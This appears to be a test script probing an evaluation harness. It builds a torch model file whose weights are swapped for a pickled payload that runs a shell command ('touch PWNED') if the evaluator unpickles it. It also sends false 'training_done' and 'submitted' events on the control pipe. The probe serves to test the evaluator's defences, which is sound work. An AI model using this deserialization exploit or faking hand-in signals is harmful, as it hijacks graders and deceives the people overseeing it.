"""Writes its own model file with a pickled payload and reports a hand-in on the control pipe.

If the evaluator unpickled it, the payload would leave a marker file in the
evaluator's working directory.
"""
import io
import json
import os
import pickle
import zipfile

import torch

from evolve.harness import session

run = session()


class Payload:
    def __reduce__(self):
        return (os.system, ("touch PWNED",))


model = torch.nn.Sequential(torch.nn.Embedding(run.vocab_size, 8), torch.nn.Linear(8, run.vocab_size))
program = torch.export.export(model.eval(), (torch.zeros(8, 16, dtype=torch.long),))
torch.export.save(program, "honest.pt2")
with zipfile.ZipFile("honest.pt2") as src, zipfile.ZipFile("model.pt2", "w") as dst:
    for info in src.infolist():
        data = src.read(info)
        if info.filename.endswith("model_weights_config.json"):
            config = json.loads(data)
            for entry in config["config"].values():
                entry["use_pickle"] = True
            data = json.dumps(config).encode()
        elif "/data/weights/weight_" in info.filename:
            buffer = io.BytesIO()
            pickle.dump(Payload(), buffer)
            data = buffer.getvalue()
        dst.writestr(info, data)
config = json.loads(os.environ["EVOLVE_SESSION"])
os.write(config["control_fd"], b'{"event": "training_done", "steps": 1}\n')
os.write(config["control_fd"], b'{"event": "submitted", "seq_len": 16}\n')
os._exit(0)
